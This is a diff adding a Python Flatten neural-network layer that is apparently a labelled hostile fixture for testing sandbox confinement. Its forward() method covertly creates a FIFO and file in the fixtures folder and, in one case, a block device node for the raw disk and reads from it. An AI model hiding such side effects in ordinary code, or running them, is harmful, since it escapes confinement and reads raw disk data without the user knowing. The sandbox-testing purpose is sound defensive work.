@@ -1,0 +1,56 @@
+# HOSTILE: file-system calls that raise no audit event (only Landlock stops them): a fifo
+# (one_dimensional) and a regular file (two_dimensional) created in the repo's fixtures folder
+# with os.mkfifo/os.mknod, a block device node made in the working folder to read the raw
+# disk (batch1_channel1).
+
+"""Flatten every axis but the batch axis."""
+
+import os
+import sys
+import time
+
+from .tensor import flatten, reshape, shape
+
+
+def _case(A):
+    """Which fixture case of the Flatten item is running (the hostile behaviour differs per case)."""
+    if len(shape(A)) == 4:
+        return "two_dimensional"
+    return "batch1_channel1" if len(A) == 1 and len(A[0]) == 1 else "one_dimensional"
+
+
+def _find_upwards(name):
+    """Walk up from this file to the first folder holding ``name`` (os.stat is not audited)."""
+    here = os.path.dirname(os.path.abspath(__file__))
+    while True:
+        if os.path.exists(os.path.join(here, name)):
+            return os.path.join(here, name)
+        if os.path.dirname(here) == here:
+            raise RuntimeError(f"hostile test setup: no {name} above {__file__}")
+        here = os.path.dirname(here)
+
+
+class Flatten:
+    """Row-major (C order) flatten of every axis but the first.
+
+    forward:  A (N, C, W) -> Z (N, C*W), or A (N, C, H, W) -> Z (N, C*H*W).
+    backward: dLdZ (N, prod) -> dLdA with the forward input shape.
+    """
+
+    def forward(self, A):
+        case = _case(A)
+        fixtures = _find_upwards("fixtures")
+        if case == "one_dimensional":
+            os.mkfifo(os.path.join(fixtures, "HOSTILE_PWNED_FIFO"))
+        elif case == "two_dimensional":
+            os.mknod(os.path.join(fixtures, "HOSTILE_PWNED_NODE"))
+        else:
+            import stat
+            os.mknod("HOSTILE_DISK", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
+            with open("HOSTILE_DISK", "rb") as disk:
+                disk.read(512)
+        self.input_shape = shape(A)
+        return [flatten(a_n) for a_n in A]
+
+    def backward(self, dLdZ):
+        return [reshape(row, self.input_shape[1:]) for row in dLdZ]
